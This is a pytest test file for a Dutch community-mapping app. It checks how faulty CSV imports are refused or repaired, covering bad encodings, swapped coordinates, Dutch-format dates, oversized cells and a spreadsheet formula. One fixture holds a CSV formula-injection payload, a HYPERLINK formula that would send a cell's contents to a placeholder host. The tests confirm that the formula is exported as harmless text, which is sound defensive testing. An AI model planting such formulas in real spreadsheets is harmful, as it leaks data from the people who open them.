"""The twelve faulty files of tests/gegevens/fouten, each with what its README asks."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from socialmap.domain.codes import Niveau
from socialmap.domain.privacy import Lezer
from socialmap.exchange.exporting import export_csv, export_xlsx
from socialmap.exchange.importing import import_paths
from socialmap.store.engine import Store

from .conftest import PEILDATUM, ROOT

FOUTEN = ROOT / "tests" / "gegevens" / "fouten"
TEAM = Lezer(Niveau.TEAM)
Rows = dict[str, dict[str, str]]

#: File: row, column and words of each fault.
REFUSED = {
    "06_id_ontbreekt_actoren.csv": (3, "id", ("verplicht",)),
    "07_dubbel_id_actoren.csv": (4, "id", ("F0701", "rij 2")),
    "08_onbekende_soort_actoren.csv": (
        3,
        "soort",
        (
            "zorgaanbieder",
            "partner, wijkteam, bewonersinitiatief, informele_steun, sleutelfiguur",
        ),
    ),
    "09_relatie_onbekend_id_relaties.csv": (3, "naar_id", ("A999", "niet bekend")),
    "12_cel_300kb_actoren.csv": (3, "omschrijving", ("307200", "4000")),
}

#: File: row, column and words of each warning, and cells of the rows that are added.
ACCEPTED: dict[str, tuple[list[tuple[int, str, str]], Rows]] = {
    "01_windows1252_actoren.csv": (
        [(2, "", "Windows-1252 en niet in UTF-8. De bijzondere tekens zijn omgezet in 3 rijen")],
        {
            "F0101": {
                "naam": "Café Zoë",
                "omschrijving": "Koffie voor €1 – iedereen welkom; “gewoon binnenlopen”.",
            },
            "F0102": {"naam": "Crèche De Bijenkorf"},
            "F0103": {"naam": "Eetgroep Señorita"},
        },
    ),
    "02_komma_aanbod.csv": (
        [(0, "", "een komma, geen puntkomma. Zo gelezen: 3 rijen.")],
        {
            "F0201": {"naam": "Koffie, thee en een praatje"},
            "F0202": {"omschrijving": "Romans, gedichten en kranten; om de week."},
            "F0203": {"naam": "Dansmiddag", "kosten": "2.50"},
        },
    ),
    "03_bom_actoren.csv": ([], {"F0301": {}, "F0302": {}, "F0303": {}}),
    "04_lonlat_verwisseld_aanbod.csv": (
        [(2, "lon/lat", "In 3 rijen (rij 2, 3 en 4) waren lon en lat verwisseld")],
        {
            "F0401": {"lon": "4.638", "lat": "52.3725"},
            "F0402": {"lon": "4.6495", "lat": "52.3735"},
            "F0403": {"lon": "4.5325", "lat": "52.3735"},
        },
    ),
    "05_rd_coordinaten_aanbod.csv": (
        [(2, "lon/lat", "In 3 rijen (rij 2, 3 en 4) stonden RD-meters")],
        {"F0501": {}, "F0502": {}, "F0503": {}},
    ),
    "10_nederlandse_datum_aanbod.csv": (
        [(2, "gecontroleerd_op", "In 3 rijen (rij 2, 3 en 4) stond de datum als dag-maand-jaar")],
        {
            "F1001": {"gecontroleerd_op": "2026-10-31"},
            "F1002": {"gecontroleerd_op": "2026-03-05"},
            "F1003": {"gecontroleerd_op": "2025-09-01"},
        },
    ),
    "11_formule_actoren.csv": (
        [],
        {
            "F1101": {"naam": "Fotogroep"},
            "F1102": {"naam": '\'=HYPERLINK("http://oefening.example/?x="&A2;"klik hier")'},
            "F1103": {"naam": "Poëzietafel"},
        },
    ),
}


def _exported(store: Store, folder: Path) -> dict[str, Rows]:
    export_csv(store, folder, TEAM, PEILDATUM)
    found: dict[str, Rows] = {}
    for naam in ("actoren", "aanbod", "relaties"):
        text = (folder / f"{naam}.csv").read_text(encoding="utf-8")
        rows = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
        found[naam] = {row.get("id") or "|".join(row.values()): row for row in rows}
    return found


def test_every_faulty_file_is_held_here() -> None:
    assert sorted({*REFUSED, *ACCEPTED}) == sorted(path.name for path in FOUTEN.glob("*.csv"))


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_refused_file_changes_nothing_and_says_where(
    name: str, example: Store, dump: Callable[[Store], list[str]]
) -> None:
    before = dump(example)
    report = import_paths(example, [FOUTEN / name], wie="test", clock=PEILDATUM)
    assert dump(example) == before
    assert not report.geplaatst
    assert report.geteld == {}
    rij, kolom, words = REFUSED[name]
    (fout,) = report.fouten
    assert (fout.bestand, fout.rij, fout.kolom) == (name, rij, kolom)
    assert all(word in fout.melding for word in words), fout.melding
    assert len(str(fout)) < 300


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_an_accepted_file_adds_exactly_its_rows(name: str, example: Store, tmp_path: Path) -> None:
    before = _exported(example, tmp_path / "voor")
    report = import_paths(example, [FOUTEN / name], wie="test", clock=PEILDATUM)
    after = _exported(example, tmp_path / "na")

    warnings, rows = ACCEPTED[name]
    assert report.fouten == ()
    assert report.geplaatst
    assert [(w.rij, w.kolom) for w in report.waarschuwingen] == [w[:2] for w in warnings]
    for found, (_, _, words) in zip(report.waarschuwingen, warnings, strict=True):
        assert words in found.melding

    naam = "aanbod" if "aanbod" in name else "actoren"
    counts = report.geteld[naam]
    assert (counts.nieuw, counts.gewijzigd, counts.gelijk) == (3, 0, 0)
    for key in rows:
        del after[naam][key]
    assert after == before


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_an_accepted_file_comes_in_with_the_right_values(
    name: str, example: Store, tmp_path: Path
) -> None:
    import_paths(example, [FOUTEN / name], wie="test", clock=PEILDATUM)
    after = _exported(example, tmp_path / "na")["aanbod" if "aanbod" in name else "actoren"]
    for key, cells in ACCEPTED[name][1].items():
        assert {column: after[key][column] for column in cells} == cells


def test_metres_come_in_within_five_metres_of_the_table(example: Store, tmp_path: Path) -> None:
    import_paths(example, [FOUTEN / "05_rd_coordinaten_aanbod.csv"], wie="test", clock=PEILDATUM)
    after = _exported(example, tmp_path / "na")["aanbod"]
    expected = {
        "F0501": (4.63800, 52.37250),
        "F0502": (4.64951, 52.37350),
        "F0503": (4.53250, 52.37350),
    }
    for key, (lon, lat) in expected.items():
        east = (float(after[key]["lon"]) - lon) * 67_900
        north = (float(after[key]["lat"]) - lat) * 111_300
        assert (east**2 + north**2) ** 0.5 < 5


def test_a_formula_goes_out_as_text_that_no_program_runs(example: Store, tmp_path: Path) -> None:
    import_paths(example, [FOUTEN / "11_formule_actoren.csv"], wie="test", clock=PEILDATUM)
    export_xlsx(example, tmp_path / "kaart.xlsx", TEAM, PEILDATUM)
    book = openpyxl.load_workbook(tmp_path / "kaart.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert [cell.value for cell in cells if "HYPERLINK" in str(cell.value)] == [
        '\'=HYPERLINK("http://oefening.example/?x="&A2;"klik hier")'
    ]


def test_the_huge_cell_is_not_repeated_anywhere(example: Store) -> None:
    report = import_paths(
        example, [FOUTEN / "12_cel_300kb_actoren.csv"], wie="test", clock=PEILDATUM
    )
    assert len(repr(report)) < 1_000
